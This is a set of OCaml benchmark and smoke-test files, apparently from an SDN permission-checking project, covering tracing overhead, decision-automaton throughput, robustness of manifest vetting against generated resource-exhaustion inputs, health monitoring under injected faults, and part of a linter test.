    List.filter (fun (s : Trace.span) -> s.Trace.decision = Trace.Denied) spans
  in
  Fmt.pr "spans: %d retained, %d denied@." (List.length spans)
    (List.length denied);
  if denied = [] then fail "no denied spans from the MAX_PRIORITY workload";
  List.iter
    (fun (s : Trace.span) ->
      if s.Trace.explain = None then
        fail "denied span #%d (%s) has no decision explanation" s.Trace.seq
          s.Trace.call)
    denied;
  List.iter
    (fun (s : Trace.span) ->
      if
        s.Trace.queue_wait < 0. || s.Trace.check_dur < 0.
        || s.Trace.exec_dur < 0. || s.Trace.total < 0.
      then fail "span #%d has a negative duration" s.Trace.seq)
    spans;
  (* 2. Export formats parse / round-trip. *)
  let snap = Telemetry.snapshot ~trace () in
  let json = Telemetry.to_json snap in
  (match Telemetry.Json.of_string json with
  | Error e -> fail "JSON snapshot does not parse: %s" e
  | Ok v ->
    if v <> Telemetry.to_json_value snap then
      fail "JSON snapshot does not round-trip structurally");
  (match Telemetry.validate_prometheus (Telemetry.to_prometheus snap) with
  | Ok () -> ()
  | Error e -> fail "Prometheus snapshot invalid: %s" e);
  (* 3. Histogram percentiles are ordered and inside [min, max]. *)
  (match List.assoc_opt "lat:total" (Metrics.hist_report ()) with
  | None -> fail "traced run registered no lat:total histogram"
  | Some h ->
    let e = Metrics.Histogram.export h in
    let p50 = Metrics.Histogram.percentile h 50.
    and p99 = Metrics.Histogram.percentile h 99. in
    if not (e.Metrics.Histogram.min <= p50 && p50 <= p99
            && p99 <= e.Metrics.Histogram.max)
    then
      fail "lat:total percentiles out of order: min=%g p50=%g p99=%g max=%g"
        e.Metrics.Histogram.min p50 p99 e.Metrics.Histogram.max);
  (* 4. Overhead gate: tracing at the recommended 1-in-10 sampling
     adds <10% to the cached hot path.  Min-of-trials, interleaved,
     so scheduler noise hits both sides alike. *)
  let call_pairs = measure_overhead ~sampling:0.1 ~trials:9 ~events:2_000 () in
  let pct = overhead_pct call_pairs in
  Fmt.pr "hot path overhead at sampling 0.1 (median of 9 paired trials): \
          %+.1f %%@."
    pct;
  if pct >= 10. then
    fail "tracing at sampling 0.1 adds %.1f%% >= 10%% to the cached hot path"
      pct;
  (* 5. Churn gate: transaction spans + stage histograms add <10% to
     market-lab-style churn throughput.  Each transaction does
     milliseconds of vet/reconcile/compile work against microseconds
     of span recording, so a breach means recording grew a systematic
     cost, not that the box is noisy. *)
  let churn_txns = 100 in
  let churn_pairs =
    measure_churn_overhead ~trials:5 ~txns:churn_txns ~apps:10 ()
  in
  let churn_pct = overhead_pct churn_pairs in
  Fmt.pr "churn tracing overhead (%d txns, median of 5 paired trials): \
          %+.1f %%@."
    churn_txns churn_pct;
  if churn_pct >= 10. then
    fail "lifecycle tracing adds %.1f%% >= 10%% to churn throughput" churn_pct;
  emit_json ~gate:"obs-smoke"
    ~call_rows:[ (0.1, 2_000, call_pairs, pct) ]
    ~churn:(churn_pairs, churn_pct) ~churn_txns;
  match !failures with
  | [] -> Fmt.pr "obs-smoke ok@."
  | fs ->
    List.iter (fun f -> Fmt.epr "obs-smoke FAILURE: %s@." f) fs;
    exit 1
