(* Automaton lab — the decision DAG against the rest of the check
   path, plus the batched entry point (docs/AUTOMATON.md).

   Same methodology as the decision-cache bench (EXPERIMENTS.md): the
   large Figure-5 manifest, insert-focused traces, stateless checking
   as in the paper's single-core microbenchmark.  The two access
   patterns bracket the cache's behaviour — skewed is its home turf,
   uniform (32768 distinct calls churning a 16384-entry cache) is its
   worst case and the automaton's motivating workload.  A batch-size
   sweep measures what [check_batch] buys over call-at-a-time
   dispatch.

   `run` persists its measurements to BENCH_AUTOMATON.json at the repo
   root (the perf trajectory lives in the tree); `smoke` is the tier-1
   gate — equivalence over the generated corpus and the examples/lint
   manifest plus a deliberately conservative single-core throughput
   floor, no file writes. *)

open Shield_workload
open Sdnshield
module J = Bench_util.Json

let manifest () = Perm_gen.generate ~complexity:Perm_gen.Large ~focus:`Insert ()

(* Workloads are shared with the cache bench (same executable):
   [Cache_bench.base_calls] and [.skewed_trace].  Measurement is not:
   the automaton runs at tens of M ops/s, where [Cache_bench.
   throughput]'s four fixed passes give a ~3 ms timed region that
   drowns in timer jitter.  Scale the repeat count so every number
   comes from a region of comparable (generous) length. *)

let target_region = 0.25 (* seconds *)

let adaptive_repeats dt =
  max 2 (min 512 (int_of_float (target_region /. Float.max 1e-6 dt)))

(** Ops/s of [check] over [trace]: one warm (and calibration) pass,
    then enough timed passes to fill [target_region]. *)
let throughput check trace =
  let pass () =
    Array.iter (fun call -> ignore (Sys.opaque_identity (check call))) trace
  in
  let (), dt = Bench_util.timed pass in
  let repeats = adaptive_repeats dt in
  let (), total =
    Bench_util.timed (fun () ->
        for _ = 1 to repeats do
          pass ()
        done)
  in
  float_of_int (repeats * Array.length trace) /. total

(** The check path's four rungs over one manifest, stateless. *)
let checkers ~tag m =
  let engine ?cache_size name =
    let e =
      Engine.create ~record_state:false ?cache_size
        ~ownership:(Ownership.create ())
        ~app_name:(tag ^ "-" ^ name) ~cookie:1 m
    in
    fun call -> Engine.check e call
  in
  let compiled =
    let c = Compiled.of_manifest m in
    fun call -> Compiled.check c call
  in
  let automaton =
    let a = Automaton.of_manifest m in
    fun call -> Automaton.check a call
  in
  [ ("interpreted", engine "raw");
    ("compiled", compiled);
    ("engine + cache",
     engine ~cache_size:Decision_cache.default_max_entries "cached");
    ("automaton", automaton) ]

(** One workload row set: ops/s per checker plus speedups. *)
let workload_section ~title ~label ~trace m =
  Bench_util.subhr title;
  let measured =
    List.map
      (fun (name, check) -> (name, throughput check trace))
      (checkers ~tag:label m)
  in
  let base = List.assoc "interpreted" measured in
  Bench_util.table
    [ "checker"; "throughput"; "vs interpreted" ]
    (List.map
       (fun (name, ops) ->
         [ name;
           Printf.sprintf "%.2f M ops/s" (ops /. 1e6);
           Printf.sprintf "%.2fx" (ops /. base) ])
       measured);
  J.Obj
    [ ("workload", J.Str label);
      ("accesses", J.Int (Array.length trace));
      ( "checkers",
        J.Arr
          (List.map
             (fun (name, ops) ->
               J.Obj
                 [ ("checker", J.Str name);
                   ("mops", J.Float (ops /. 1e6));
                   ("vs_interpreted", J.Float (ops /. base)) ])
             measured) ) ]

(** Ops/s over [trace] cut into [batch]-sized chunks, producing one
    verdict array per chunk — via [check_batch], or via the per-call
    loop a caller would write in its place ([Array.map check]).  Both
    sides pay for materializing the verdicts, so the ratio isolates
    what the batched entry point actually buys (hoisted dispatch and
    bookkeeping); result-array costs are identical by construction.
    One warm (and calibration) pass, then adaptive timed passes. *)
let chunked_throughput a ~batch ~batched trace =
  let n = Array.length trace in
  let chunks =
    Array.init
      ((n + batch - 1) / batch)
      (fun i -> Array.sub trace (i * batch) (min batch (n - (i * batch))))
  in
  let pass =
    if batched then fun () ->
      Array.iter
        (fun chunk ->
          ignore (Sys.opaque_identity (Automaton.check_batch a chunk)))
        chunks
    else fun () ->
      Array.iter
        (fun chunk ->
          ignore
            (Sys.opaque_identity (Array.map (fun c -> Automaton.check a c) chunk)))
        chunks
  in
  let (), dt = Bench_util.timed pass in
  let repeats = adaptive_repeats dt in
  let (), total =
    Bench_util.timed (fun () ->
        for _ = 1 to repeats do
          pass ()
        done)
  in
  float_of_int (repeats * n) /. total

let batch_sweep m trace =
  Bench_util.subhr "check_batch: batch-size sweep (uniform trace)";
  let a = Automaton.of_manifest m in
  let per_call = throughput (Automaton.check a) trace in
  let rows =
    List.map
      (fun batch ->
        let ops = chunked_throughput a ~batch ~batched:true trace in
        let loop = chunked_throughput a ~batch ~batched:false trace in
        (batch, ops, loop, ops /. loop))
      [ 1; 4; 16; 64; 256; 1024; 4096 ]
  in
  Bench_util.table
    [ "batch"; "check_batch"; "per-call loop"; "speedup" ]
    ([ "(bare check, no verdict array)";
       "";
       Printf.sprintf "%.2f M ops/s" (per_call /. 1e6);
       "" ]
    :: List.map
         (fun (batch, ops, loop, rel) ->
           [ string_of_int batch;
             Printf.sprintf "%.2f M ops/s" (ops /. 1e6);
             Printf.sprintf "%.2f M ops/s" (loop /. 1e6);
             Printf.sprintf "%.2fx" rel ])
         rows);
  ( J.Arr
      (List.map
         (fun (batch, ops, loop, rel) ->
           J.Obj
             [ ("batch", J.Int batch);
               ("mops", J.Float (ops /. 1e6));
               ("per_call_loop_mops", J.Float (loop /. 1e6));
               ("vs_per_call", J.Float rel) ])
         rows),
    J.Float (per_call /. 1e6) )

let build_stats_json m =
  let s = Automaton.build_stats (Automaton.of_manifest m) in
  J.Obj
    [ ("nodes", J.Int s.Automaton.nodes);
      ("shared", J.Int s.Automaton.shared);
      ("collapsed", J.Int s.Automaton.collapsed);
      ("tokens", J.Int s.Automaton.tokens) ]

let run () =
  Bench_util.hr
    "Automaton: decision-DAG checking vs the rest of the check path";
  let m = manifest () in
  let skewed =
    workload_section ~title:"skewed (64 distinct calls, 90% to hot 8)"
      ~label:"skewed"
      ~trace:(Cache_bench.skewed_trace ~base:(Cache_bench.base_calls 64) ~n:65536)
      m
  in
  let uniform_trace = Cache_bench.base_calls 32768 in
  let uniform =
    workload_section
      ~title:"uniform (32768 distinct calls vs 16384-entry cache)"
      ~label:"uniform" ~trace:uniform_trace m
  in
  let sweep, per_call = batch_sweep m uniform_trace in
  Fmt.pr
    "@.note: uniform is the decision cache's worst case (flush churn) and@.";
  Fmt.pr
    "      the automaton's motivating workload; see docs/CACHING.md@.";
  Bench_util.write_json "BENCH_AUTOMATON.json"
    (J.Obj
       [ ("bench", J.Str "automaton-lab");
         ("manifest", J.Str "perm_gen large/insert (Figure-5 shape)");
         ("build", build_stats_json m);
         ("workloads", J.Arr [ skewed; uniform ]);
         ("batch_per_call_mops", per_call);
         ("batch_sweep", sweep) ])

(* Smoke gate ------------------------------------------------------------- *)

let failures = ref []
let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt

let same_verdict d1 d2 =
  match (d1, d2) with
  | Shield_controller.Api.Allow, Shield_controller.Api.Allow -> true
  | Shield_controller.Api.Deny _, Shield_controller.Api.Deny _ -> true
  | _ -> false

(** Automaton == Engine == Compiled call-for-call on [m]. *)
let equivalence ~what m trace =
  let e =
    Engine.create ~record_state:false
      ~ownership:(Ownership.create ())
      ~app_name:("smoke-" ^ what) ~cookie:1 m
  in
  let c = Compiled.of_manifest m in
  let a = Automaton.of_manifest m in
  Array.iteri
    (fun i call ->
      let de = Engine.check e call in
      if not (same_verdict de (Automaton.check a call)) then
        fail "%s: automaton diverges from engine at call %d" what i;
      if not (same_verdict de (Compiled.check c call)) then
        fail "%s: compiled diverges from engine at call %d" what i)
    trace;
  (* Batched verdicts must be the one-at-a-time verdicts. *)
  let b = Automaton.of_manifest m in
  let batched = Automaton.check_batch b trace in
  Array.iteri
    (fun i call ->
      if not (same_verdict (Automaton.check a call) batched.(i)) then
        fail "%s: check_batch diverges at call %d" what i)
    trace

let read_example name =
  (* The runtest rule runs from _build/default/bench; `dune exec
     bench/main.exe` usually runs from the repo root.  Try both. *)
  let candidates =
    [ Filename.concat "examples/lint" name;
      Filename.concat "../examples/lint" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None ->
    fail "corpus file %s not found (tried: %s)" name
      (String.concat ", " candidates);
    None
  | Some path ->
    let ic = open_in_bin path in
    Some
      (Fun.protect
         ~finally:(fun () -> close_in_noerr ic)
         (fun () -> really_input_string ic (in_channel_length ic)))

let smoke () =
  Bench_util.hr "Automaton: smoke";
  (* 1. Equivalence over the generated corpus: every complexity × focus
     shape, with a violation rate high enough to exercise denials. *)
  List.iter
    (fun complexity ->
      List.iter
        (fun focus ->
          let m = Perm_gen.generate ~complexity ~focus () in
          let trace =
            Array.map fst
              (Api_trace.generate ~focus ~violation_rate:0.3 ~n:2048 ())
          in
          let what =
            Printf.sprintf "%s/%s"
              (Perm_gen.complexity_to_string complexity)
              (match focus with `Insert -> "insert" | `Stats -> "stats")
          in
          equivalence ~what m trace)
        [ `Insert; `Stats ])
    [ Perm_gen.Small; Perm_gen.Medium; Perm_gen.Large ];
  (* Mixed-call traces against the large manifest: covers call kinds a
     focused trace never issues. *)
  equivalence ~what:"large/mixed" (manifest ())
    (Array.map fst (Api_trace.generate_mixed ~violation_rate:0.3 ~n:2048 ()));
  (* 2. A real manifest from the examples corpus, not a generated one. *)
  (match read_example "clean.manifest" with
  | None -> ()
  | Some src -> (
    match Perm_parser.manifest_of_string src with
    | Error e -> fail "clean.manifest does not parse: %s" e
    | Ok m ->
      equivalence ~what:"examples/clean"
        m
        (Array.map fst (Api_trace.generate_mixed ~violation_rate:0.3 ~n:2048 ()))));
  Fmt.pr "equivalence (engine = compiled = automaton = batched): %s@."
    (if !failures = [] then "ok" else "FAIL");
  (* 3. Conservative single-core throughput floor on the uniform
     workload — catches an automaton that silently fell back to
     something interpretive, not a benchmark. *)
  let m = manifest () in
  let a = Automaton.of_manifest m in
  let trace = Cache_bench.base_calls 8192 in
  let ops = Cache_bench.throughput ~repeats:2 (Automaton.check a) trace in
  Fmt.pr "uniform single-core throughput: %.2f M ops/s (floor 1.00)@."
    (ops /. 1e6);
  if ops < 1e6 then fail "throughput %.2f M ops/s under the 1M floor" (ops /. 1e6);
  match !failures with
  | [] -> Fmt.pr "smoke ok@."
  | fs ->
    List.iter (fun f -> Fmt.epr "smoke FAILURE: %s@." f) fs;
    exit 1
