(* Adversarial-admission lab: prove the vetting pipeline cuts every
   hostile-input family off with a structured verdict.

   Each family from [Shield_workload.Hostile_gen] — depth bombs (text
   and raw AST), cross-product bombs, clause-width bombs, macro-chain
   bombs, garbage bytes — is pushed through [Sdnshield.Vetting] and
   checked against the docs/VETTING.md contract:

   - the verdict is [Rejected] or [Degraded], never a hang, a
     [Stack_overflow], an [Out_of_memory] or any other escape;
   - the budget actually bounded the work: the cross-product bomb
     allocates at most [max_clauses] merged clauses (the incremental
     guard in [Nf.cross]), not the |A|x|B| product;
   - each family finishes in interactive time (a watchdog turns a hang
     into a loud exit, as in fault_lab).

   `vetting-lab` prints the full per-family report; `vet-smoke` is the
   fast tier-1 gate (exits nonzero on any violated invariant). *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen

let failures = ref []
let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt

(* Run one family and check its verdict class.  [expect] lists the
   acceptable labels; anything else — including an exception escaping
   [Vetting], which its contract forbids — is a failure. *)
let family name ~expect (f : unit -> string) =
  let t0 = Unix.gettimeofday () in
  let label =
    match f () with
    | l -> l
    | exception exn ->
      fail "%s: exception escaped the vetting pipeline: %s" name
        (Printexc.to_string exn);
      "EXCEPTION"
  in
  let dt = Unix.gettimeofday () -. t0 in
  if label <> "EXCEPTION" && not (List.mem label expect) then
    fail "%s: verdict %s, expected one of [%s]" name label
      (String.concat "; " expect);
  Fmt.pr "%-28s %-9s %6.1f ms@." name label (1000. *. dt)

let describe_manifest (v : Perm.manifest Vetting.verdict) =
  (match v with
  | Vetting.Admitted _ -> ()
  | Vetting.Degraded (_, notes) ->
    List.iter (fun n -> Fmt.pr "    note: %s@." n) notes
  | Vetting.Rejected r -> Fmt.pr "    %a@." Vetting.pp_rejection r);
  Vetting.verdict_label v

let describe_report (v : Reconcile.report Vetting.verdict) =
  (match v with
  | Vetting.Admitted _ -> ()
  | Vetting.Degraded (_, notes) ->
    List.iter (fun n -> Fmt.pr "    note: %s@." n) notes
  | Vetting.Rejected r -> Fmt.pr "    %a@." Vetting.pp_rejection r);
  Vetting.verdict_label v

(* The cross-product bomb's DNF is 4096^2 = 16.7M clauses; the
   incremental guard must stop at the per-conversion cap (4096), so
   clause allocations recorded by a fresh budget stay at or under it.
   The memo is cleared first: a cached [Blew_up] would be a 0-clause
   lookup and prove nothing about the guard. *)
let check_cross_allocation () =
  Nf.clear_memo ();
  let b = Budget.create () in
  let bomb = Hostile.cross_bomb ~atoms:4096 in
  (Budget.with_scope b (fun () ->
       match Nf.dnf bomb with
       | _ -> fail "cross-allocation: 16.7M-clause DNF did not blow up"
       | exception Nf.Too_large -> ()));
  let spent = Budget.spent b in
  Fmt.pr "%-28s %d clauses allocated (cap 4096)@." "cross-allocation"
    spent.Budget.clauses;
  if spent.Budget.clauses > 4096 then
    fail
      "cross-allocation: %d clauses allocated past the 4096 cap — the guard \
       is not incremental"
      spent.Budget.clauses

let run_families ~garbage_seeds ~text_depth =
  failures := [];
  family "depth-bomb (NOT chain)" ~expect:[ "rejected" ] (fun () ->
      describe_manifest
        (Vetting.vet_manifest (Hostile.depth_bomb_src ~depth:text_depth)));
  family "depth-bomb (parens)" ~expect:[ "rejected" ] (fun () ->
      describe_manifest
        (Vetting.vet_manifest (Hostile.paren_bomb_src ~depth:text_depth)));
  family "depth-bomb (raw AST)" ~expect:[ "rejected" ] (fun () ->
      describe_manifest
        (Vetting.vet_manifest_ast
           (Hostile.manifest_of_filter (Hostile.ast_depth_bomb ~depth:100_000))));
  family "cross-product bomb" ~expect:[ "degraded"; "rejected" ] (fun () ->
      Nf.clear_memo ();
      describe_manifest
        (Vetting.vet_manifest_ast
           (Hostile.manifest_of_filter (Hostile.cross_bomb ~atoms:4096))));
  family "clause-width bomb" ~expect:[ "degraded"; "rejected" ] (fun () ->
      Nf.clear_memo ();
      describe_manifest
        (Vetting.vet_manifest_ast
           (Hostile.manifest_of_filter (Hostile.width_bomb ~atoms:2000))));
  family "macro-chain bomb" ~expect:[ "degraded"; "rejected" ] (fun () ->
      let manifest_src, policy_src = Hostile.macro_chain_bomb ~links:48 in
      describe_report
        (Vetting.vet_and_reconcile ~apps:[ ("bomb", manifest_src) ] policy_src));
  for seed = 1 to garbage_seeds do
    family
      (Printf.sprintf "garbage bytes (seed %d)" seed)
      ~expect:[ "rejected" ]
      (fun () ->
        describe_manifest
          (Vetting.vet_manifest (Hostile.garbage ~seed ~len:4096)))
  done;
  check_cross_allocation ();
  !failures

(* A hang is precisely the bug this lab exists to catch: fail loudly
   instead of wedging CI.  The thread dies with the process on
   success. *)
let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr
           "vetting-lab WATCHDOG: still running after %.0fs — a hostile \
            input hung the admission pipeline@."
           seconds;
         exit 3)
       ())

let report_outcome ~gate failures =
  Fmt.pr "@.%a@." Vetting.pp_stats (Vetting.stats ());
  match failures with
  | [] -> Fmt.pr "%s ok: every hostile family was contained@." gate
  | fs ->
    List.iter (fun f -> Fmt.epr "%s FAILURE: %s@." gate f) fs;
    exit 1

let run () =
  Bench_util.hr "Adversarial admission: hostile manifests and policies";
  arm_watchdog 300.;
  Vetting.reset_stats ();
  report_outcome ~gate:"vetting-lab"
    (run_families ~garbage_seeds:8 ~text_depth:400_000)

(** Tier-1 gate: same invariants, smaller volume. *)
let smoke () =
  Bench_util.hr "Adversarial admission: smoke";
  arm_watchdog 120.;
  Vetting.reset_stats ();
  report_outcome ~gate:"vet-smoke"
    (run_families ~garbage_seeds:3 ~text_depth:120_000)
