(* Health lab: the streaming health monitor and the flight recorder
   under injected lifecycle faults (docs/OBSERVABILITY.md).

   `health-smoke` is the tier-1 gate for the control-plane
   observability chain, end to end:

   - a clean churn phase must judge Healthy;
   - churn with the mid-swap fault sites armed must degrade the
     verdict with a named [faults] cause, and every fault-injected
     rollback must leave a flight-recorder bundle whose transaction
     span names the failed stage;
   - the transaction-span trail must agree with the market ledger
     (same ids, same commit/rollback verdicts, same failed stages);
   - sliding the window past the incident (manual clock) must flip
     the verdict back to Healthy without any process restart;
   - the Prometheus exposition of a snapshot carrying trace + health
     sections must pass {!Telemetry.validate_prometheus} and contain
     the new metric families. *)

open Shield_controller
open Sdnshield

let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr "health-smoke WATCHDOG: still running after %.0fs@." seconds;
         exit 3)
       ())

let run_churn m ~txns ~apps ~invalid ~seed =
  let script =
    Shield_workload.Churn_gen.script ~seed ~apps ~invalid_fraction:invalid
      ~length:txns ()
  in
  List.iter
    (fun (e : Shield_workload.Churn_gen.entry) ->
      ignore (Market.submit m e.Shield_workload.Churn_gen.request))
    script

let contains ~sub s =
  let n = String.length sub and m = String.length s in
  let rec go i = i + n <= m && (String.sub s i n = sub || go (i + 1)) in
  go 0

let smoke () =
  Bench_util.hr "Health: smoke";
  arm_watchdog 120.;
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  let hclock = ref 0. in
  let health = Health.create ~clock:(fun () -> !hclock) () in
  let trace = Trace.create () in
  let flight = Forensics.Flight.create ~capacity:64 ~trace () in
  Faults.set_observer (fun _ -> Health.fault health);
  let t =
    match Epoch.create ~policy:"" () with
    | Ok t -> t
    | Error e -> failwith ("health-smoke: policy rejected: " ^ e)
  in
  let m = Epoch.market ~trace ~health ~flight t in
  Fun.protect
    ~finally:(fun () ->
      Faults.disarm ();
      Faults.clear_observer ())
    (fun () ->
      (* Phase A: clean churn judges Healthy. *)
      run_churn m ~txns:20 ~apps:10 ~invalid:0. ~seed:11;
      let v = Health.verdict health in
      if v.Health.status <> Health.Healthy then
        fail "clean churn judged %s, expected healthy"
          (Health.status_to_string v.Health.status);
      (* Phase B: armed mid-swap faults degrade the verdict with a
         named cause, and the snapshot exposition taken *during* the
         incident carries every new metric family. *)
      Faults.configure ~seed:7 ~swap_verify:0.1 ~swap_compile:0.1
        ~swap_publish:0.1 ();
      run_churn m ~txns:40 ~apps:10 ~invalid:0. ~seed:12;
      Faults.disarm ();
      let injected =
        List.exists (fun (_, n) -> n > 0) (Faults.report ())
      in
      if not injected then
        fail "fault schedule injected nothing at 0.1 per swap site";
      let v_fault = Health.verdict health in
      if v_fault.Health.status = Health.Healthy then
        fail "health stayed healthy under injected faults";
      if
        not
          (List.exists
             (fun (c : Health.cause) -> c.Health.cause_signal = "faults")
             v_fault.Health.causes)
      then fail "degraded verdict has no 'faults' cause";
      let prom =
        Telemetry.to_prometheus (Telemetry.snapshot ~trace ~health ())
      in
      (match Telemetry.validate_prometheus prom with
      | Ok () -> ()
      | Error e -> fail "Prometheus exposition invalid: %s" e);
      List.iter
        (fun family ->
          if not (contains ~sub:family prom) then
            fail "Prometheus exposition lacks %s" family)
        [ "sdnshield_health_status"; "sdnshield_health_window_seconds";
          "sdnshield_health_signal"; "sdnshield_health_cause_level";
          "sdnshield_trace_txn_spans" ];
      (* Flight recorder: every fault-injected rollback left a bundle
         naming the failed stage. *)
      let ledger = Market.history m in
      let rollbacks =
        List.filter
          (fun (txn : Market.txn) -> not (Market.committed txn.Market.outcome))
          ledger
      in
      let bundles = Forensics.Flight.bundles flight in
      if bundles = [] && rollbacks <> [] then
        fail "%d rollbacks left no flight bundle" (List.length rollbacks);
      List.iter
        (fun (b : Forensics.Flight.bundle) ->
          match b.Forensics.Flight.txn with
          | None -> fail "flight bundle #%d has no transaction span" b.bseq
          | Some s -> (
            match s.Trace.verdict with
            | Trace.Txn_rolled_back { stage; _ } ->
              if not (contains ~sub:stage b.Forensics.Flight.reason) then
                fail "bundle #%d reason %S does not name stage %s" b.bseq
                  b.Forensics.Flight.reason stage
            | Trace.Txn_committed _ ->
              fail "flight bundle #%d captured a committed transaction" b.bseq))
        bundles;
      (* Span trail = ledger: same ids, verdicts, failed stages. *)
      let trail = Trace.txn_spans trace in
      if List.length trail <> List.length ledger then
        fail "span trail has %d entries, ledger %d" (List.length trail)
          (List.length ledger);
      List.iter
        (fun (txn : Market.txn) ->
          match
            List.find_opt
              (fun (s : Trace.txn_span) -> s.Trace.id = txn.Market.id)
              trail
          with
          | None -> fail "transaction %d has no span" txn.Market.id
          | Some s -> (
            match (txn.Market.outcome, s.Trace.verdict) with
            | Market.Committed { epoch; _ }, Trace.Txn_committed _ ->
              if s.Trace.epoch_after <> epoch then
                fail "txn %d: span epoch %d <> ledger epoch %d" txn.Market.id
                  s.Trace.epoch_after epoch
            | Market.Rolled_back { stage; _ }, Trace.Txn_rolled_back v ->
              if v.stage <> stage then
                fail "txn %d: span stage %s <> ledger stage %s" txn.Market.id
                  v.stage stage
            | _ ->
              fail "txn %d: span and ledger disagree on commit/rollback"
                txn.Market.id))
        ledger;
      (* Phase C: the window slides past the incident; the verdict
         recovers with no restart, and clean churn keeps it healthy. *)
      hclock := !hclock +. Health.window health +. 1.;
      let v_slid = Health.verdict health in
      if v_slid.Health.status <> Health.Healthy then
        fail "verdict still %s after the window slid past the faults"
          (Health.status_to_string v_slid.Health.status);
      run_churn m ~txns:10 ~apps:10 ~invalid:0. ~seed:13;
      let v_final = Health.verdict health in
      if v_final.Health.status <> Health.Healthy then
        fail "post-recovery clean churn judged %s"
          (Health.status_to_string v_final.Health.status);
      Fmt.pr
        "phases: clean=%s faulted=%s slid=%s final=%s; %d rollbacks, %d \
         flight bundles, %d spans@."
        (Health.status_to_string v.Health.status)
        (Health.status_to_string v_fault.Health.status)
        (Health.status_to_string v_slid.Health.status)
        (Health.status_to_string v_final.Health.status)
        (List.length rollbacks) (List.length bundles)
        (List.length trail));
  Market.shutdown m;
  Epoch.close t;
  match !failures with
  | [] -> Fmt.pr "health-smoke ok@."
  | fs ->
    List.iter (fun f -> Fmt.epr "health-smoke FAILURE: %s@." f) fs;
    exit 1
