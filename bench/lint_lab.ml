(* Shield-lint lab: prove the static analyzer's contract on a known
   corpus (docs/LINTING.md).

   Invariants checked against the examples/lint corpus and the seeded
   [Shield_workload] generators:

   - every rule of the catalogue fires on the lint-dirty corpus
     (manifest rules incl. the trace-driven over-privilege audit;
     policy rules on the dirty policy);
   - the lint-clean corpus produces zero findings — in particular
     zero [Error] findings, the CI-blocking severity;
   - the SARIF-shaped JSON renderer round-trips through the
     observability stack's own parser with one result per finding;
   - an exhausted budget degrades every rule to [Info] "unverified"
     findings — lint never raises (fail-degraded, like vetting).

   `lint-lab` runs the full report (more seeds, larger traces);
   `lint-smoke` is the fast tier-1 gate wired into `dune runtest`. *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module Pgen = Shield_workload.Perm_gen
module Json = Shield_controller.Telemetry.Json

let failures = ref []
let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt

(* The runtest rule runs from _build/default/bench; `dune exec
   bench/main.exe` usually runs from the repo root.  Try both. *)
let read_example name =
  let candidates =
    [ Filename.concat "examples/lint" name;
      Filename.concat "../examples/lint" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None ->
    fail "corpus file %s not found (tried: %s)" name
      (String.concat ", " candidates);
    ""
  | Some path ->
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))

let manifest_of ~what src =
  match Perm_parser.manifest_of_string src with
  | Ok m -> m
  | Error e ->
    fail "%s: manifest does not parse: %s" what e;
    []

let policy_of ~what src =
  match Policy_parser.of_string src with
  | Ok p -> p
  | Error e ->
    fail "%s: policy does not parse: %s" what e;
    []

let check_rules ~what expected findings =
  List.iter
    (fun r ->
      if not (Lint.has_rule r findings) then
        fail "%s: rule %s did not fire" what (Lint.rule_id r))
    expected

let manifest_rules =
  [ Lint.Unsatisfiable_filter; Lint.Vacuous_filter; Lint.Shadowed_clause;
    Lint.Redundant_refinement; Lint.Over_privilege ]

let policy_rules =
  [ Lint.Dead_binding; Lint.Self_meet_join; Lint.Overlapping_exclusive ]

let describe what findings =
  Fmt.pr "%-28s %d error(s), %d warning(s), %d info@." what
    (Lint.count Lint.Error findings)
    (Lint.count Lint.Warn findings)
    (Lint.count Lint.Info findings)

(* Dirty corpus: all 8 rules ------------------------------------------------- *)

let check_dirty_corpus ~trace =
  let dirty_m =
    manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest")
  in
  let findings = Lint.lint_manifest ~trace dirty_m in
  describe "dirty.manifest" findings;
  check_rules ~what:"dirty.manifest" manifest_rules findings;
  if Lint.count Lint.Error findings = 0 then
    fail "dirty.manifest: expected at least one Error finding";
  let dirty_p = policy_of ~what:"dirty.policy" (read_example "dirty.policy") in
  let findings = Lint.lint_policy dirty_p in
  describe "dirty.policy" findings;
  check_rules ~what:"dirty.policy" policy_rules findings;
  findings

let check_generated_corpus ~seeds ~trace =
  for seed = 1 to seeds do
    let what = Printf.sprintf "hostile dirty manifest (seed %d)" seed in
    let m = manifest_of ~what (Hostile.lint_dirty_manifest_src ~seed) in
    check_rules ~what manifest_rules (Lint.lint_manifest ~trace m);
    let what = Printf.sprintf "hostile dirty policy (seed %d)" seed in
    let p = policy_of ~what (Hostile.lint_dirty_policy_src ~seed) in
    check_rules ~what policy_rules (Lint.lint_policy p)
  done

let check_over_privileged ~n =
  let manifest, trace = Pgen.over_privileged ~n () in
  let findings = Lint.lint_manifest ~trace manifest in
  describe "over-privileged pair" findings;
  if not (Lint.has_rule Lint.Over_privilege findings) then
    fail
      "over-privileged pair: a widened manifest produced no over-privilege \
       finding against its own trace"

(* Clean corpus: silence ------------------------------------------------------ *)

let check_clean_corpus ~trace:_ =
  let clean_m =
    manifest_of ~what:"clean.manifest" (read_example "clean.manifest")
  in
  let findings = Lint.lint_manifest clean_m in
  describe "clean.manifest" findings;
  if findings <> [] then
    List.iter
      (fun f -> fail "clean.manifest: unexpected finding: %s" f.Lint.message)
      findings;
  let clean_p = policy_of ~what:"clean.policy" (read_example "clean.policy") in
  let findings = Lint.lint_policy clean_p in
  describe "clean.policy" findings;
  if findings <> [] then
    List.iter
      (fun f -> fail "clean.policy: unexpected finding: %s" f.Lint.message)
      findings

(* SARIF round-trip ----------------------------------------------------------- *)

let check_sarif_roundtrip findings =
  let sarif = Lint.to_sarif ~uri:"examples/lint/dirty.policy" findings in
  match Json.of_string sarif with
  | Error e -> fail "sarif: output does not re-parse: %s" e
  | Ok json -> (
    (match Json.member "version" json with
    | Some (Json.Str "2.1.0") -> ()
